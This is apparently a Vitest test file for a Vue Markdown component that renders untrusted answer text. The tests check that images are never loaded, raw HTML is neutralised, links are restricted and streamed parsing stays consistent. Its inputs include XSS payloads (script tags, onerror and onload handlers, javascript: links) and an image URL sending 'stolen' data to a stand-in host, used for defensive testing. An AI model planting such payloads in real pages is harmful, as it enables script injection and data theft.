// Answers are other people's text: nothing in them may fetch, run or imitate the page.
import { mount } from '@vue/test-utils'
import { describe, expect, test } from 'vitest'
import { i18n } from '../../i18n.ts'
import { createMarkdownReader } from './markdown.ts'
import MarkdownText from './MarkdownText.vue'

function show(source: string): Element {
  return mount(MarkdownText, { props: { source, whole: true }, global: { plugins: [i18n] } }).element
}
const html = (source: string): string => show(source).innerHTML

describe('what is shown', () => {
  test('pictures are named, never loaded', () => {
    const shown = html('![a cat](https://evil.example/?stolen=1)\n\n![b][r]\n\n[r]: https://evil.example/b.png')
    expect(shown).toContain('[a picture from elsewhere, not loaded: a cat]')
    expect(shown).not.toMatch(/<img|evil\.example/)
  })

  test.each([
    '<img src=x onerror=alert(1)>',
    '<script>alert(1)</script>',
    '<iframe src="https://evil.example"></iframe>',
    '<p style="position:fixed">x</p>',
    '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
    'text <svg onload=alert(1)> text',
  ])('markup of the answer is text: %s', (text) => {
    const shown = show(text)
    expect(shown.querySelectorAll('img, script, iframe, svg, [style], [onerror], [onclick], [onload]')).toHaveLength(0)
    expect(shown.textContent).toContain(text)
  })

  test('links go to the web or to mail, beside the page', () => {
    expect(html('[a](https://example.com/x)')).toContain(
      '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer nofollow">a</a>',
    )
    expect(html('[a](javascript:alert(1))')).not.toContain('href')
    expect(html('[a](data:text/html;base64,AAAA)')).not.toContain('href')
  })

  test('code stands as it was written, under headings of the page’s own order', () => {
    expect(html('# A\n\n```html\n<b>&amp;\n```')).toBe(
      '<h3>A</h3><pre tabindex="0"><code>&lt;b&gt;&amp;amp;</code></pre>',
    )
  })
})

describe('piece by piece', () => {
  const TEXT =
    '# Title\n\nFirst *words*.\n\n- one\n- two\n\n  more\n- three\n\n```js\nlet a = 1\n\nlet b\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\nEnd'

  test('says the same in the end as all at once', () => {
    const reader = createMarkdownReader()
    for (let end = 1; end < TEXT.length; end++) reader.read(TEXT.slice(0, end), false)
    expect(reader.read(TEXT, true)).toEqual(createMarkdownReader().read(TEXT, true))
  })

  test('a complete block is not read again', () => {
    const reader = createMarkdownReader()
    const [first] = reader.read('One.\n\nTwo', false)
    expect(reader.read('One.\n\nTwo three', false)[0]).toBe(first)
  })
})
